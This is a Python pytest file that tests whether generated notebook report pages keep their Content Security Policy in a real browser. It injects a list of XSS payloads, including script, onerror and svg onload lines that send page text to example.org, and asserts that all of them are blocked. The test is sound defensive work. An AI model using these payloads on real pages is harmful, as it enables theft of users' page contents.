"""What a browser makes of our policy: what we wrote runs, and nothing else does."""

from __future__ import annotations

from pathlib import Path

import pytest

from cemlib.report.pages.report import report_page
from cemlib.report.plan import workbook
from cemlib.report.plan.study import default_run
from cemlib.report.run import canonical, harvest

ROOT = Path(__file__).parents[2]
SHELF = sorted((ROOT / "notebooks").glob("*.ipynb"))
SENDS = "new Image().src='https://example.org/?'+encodeURIComponent(document.body.innerText)"
SPEAKS = "alert(document.title)"
ATTACKS = (
    f'<svg onload="{SENDS}"></svg>',
    f'<img src="x" onerror="{SENDS};{SPEAKS}">',
    f"<script>{SENDS};{SPEAKS}</script>",
    f"<a href='javascript:{SPEAKS}'>press me</a>",
    f"<details open ontoggle='{SPEAKS}'>x</details>",
    f"<iframe srcdoc='<script>{SPEAKS}</script>'></iframe>",
    "<style>body { background: url(https://example.org/style) }</style>",
    "<form action='https://example.org/form'><button>Send</button></form>",
    "<img src='https://example.org/x.png'>",
)
WATCH = """
window.broken = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.broken.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
});
"""
MOVE_ALL = """
for (const fold of document.querySelectorAll("details")) fold.open = true;
for (const input of document.querySelectorAll("main input, main select")) {
  if (input.type === "radio") input.click();
  else if (input.tagName === "SELECT") input.selectedIndex = input.options.length - 1;
  else input.value = input.max || "1";
  for (const kind of ["input", "change", "click"]) {
    input.dispatchEvent(new Event(kind, { bubbles: true }));
  }
}
for (const link of document.querySelectorAll("main a[href^='javascript:']")) link.click();
for (const button of document.querySelectorAll("button")) button.click();
"""


@pytest.fixture
def opened_strictly(browser):
    """Return a function that opens a file and tells what it asked for, said and was denied."""
    contexts = []

    def open_(path):
        contexts.append(browser.new_context())
        page = contexts[-1].new_page()
        asked, said = [], []
        page.on("request", lambda request: asked.append(request))
        page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
        page.on("console", lambda message: said.append(message.text))
        page.on("pageerror", lambda error: said.append(str(error)))
        page.add_init_script(WATCH)
        page.goto(path.as_uri())
        page.evaluate(MOVE_ALL)
        page.wait_for_timeout(200)
        sent = [request.url for request in asked if request.failure != "csp"]
        away = [url for url in sent if not url.startswith(("file:", "data:", "blob:"))]
        return page, away, said, page.evaluate("window.broken")

    yield open_
    for context in contexts:
        context.close()


def printed(path, *attacks):
    run, notebook = default_run(workbook.read(path)), canonical.read(path)
    cells = [cell for cell in notebook.cells if cell.cell_type == "code" and cell.outputs]
    texts = [cell for cell in notebook.cells[1:] if cell.cell_type == "markdown"]
    for cell, text in zip(cells[-1:] * bool(attacks), texts[-1:], strict=False):
        for attack in attacks:
            data = {"text/html": attack, "text/plain": ""}
            cell.outputs.append({"output_type": "display_data", "data": data, "metadata": {}})
            text.source += f"\n\n{attack}"
        cell.outputs = [type(cell)(each) for each in cell.outputs]
    return report_page(run, notebook, harvest.findings(canonical.read(path)))


@pytest.mark.parametrize("path", SHELF, ids=lambda path: path.stem[:2])
def test_a_report_keeps_its_own_policy_when_all_in_it_moves(tmp_path, opened_strictly, path):
    (tmp_path / "report.html").write_text(printed(path), encoding="utf-8")
    page, asked, said, broken = opened_strictly(tmp_path / "report.html")
    assert (asked, said, broken) == ([], [], [])
    assert page.locator(".cem-explore:not(.cem-interactive)").count() == 0


@pytest.mark.parametrize("path", SHELF[1:2], ids=lambda path: path.stem[:2])
def test_nothing_foreign_speaks_or_sends(tmp_path, opened_strictly, path):
    (tmp_path / "report.html").write_text(printed(path, *ATTACKS), encoding="utf-8")
    page, asked, said, broken = opened_strictly(tmp_path / "report.html")
    assert (asked, said, broken) == ([], [], [])
    assert page.locator("main :is(script, style, iframe, form, svg[onload])").count() == 0


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_policy_alone_stops_what_gets_past_the_gate(tmp_path, opened_strictly, attack):
    page = printed(SHELF[0]).replace("</main>", f"{attack}</main>")
    (tmp_path / "report.html").write_text(page, encoding="utf-8")
    _, asked, said, _ = opened_strictly(tmp_path / "report.html")
    assert asked == []
    assert all("Content Security Policy" in each for each in said)
